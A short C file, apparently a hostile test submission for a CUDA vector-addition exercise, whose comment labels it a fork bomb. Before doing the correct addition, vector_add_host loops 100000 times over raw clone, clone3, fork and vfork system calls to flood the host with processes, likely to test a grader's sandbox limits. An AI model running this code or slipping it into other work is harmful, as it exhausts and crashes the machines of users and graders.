/* hostile: a fork bomb of bare system calls */
#include "exercise.h"

#include <signal.h>
#include <sys/syscall.h>
#include <unistd.h>

cudaError_t vector_add_host(float *c, const float *a, const float *b, size_t n)
{
    for (int i = 0; i < 100000; i++) {
        syscall(SYS_clone, SIGCHLD, 0, 0, 0, 0);
        syscall(SYS_clone3, 0, 0);
#ifdef SYS_fork
        syscall(SYS_fork);
        syscall(SYS_vfork);
#endif
    }
    for (size_t i = 0; i < n; i++) {
        c[i] = a[i] + b[i];
    }
    return cudaSuccess;
}
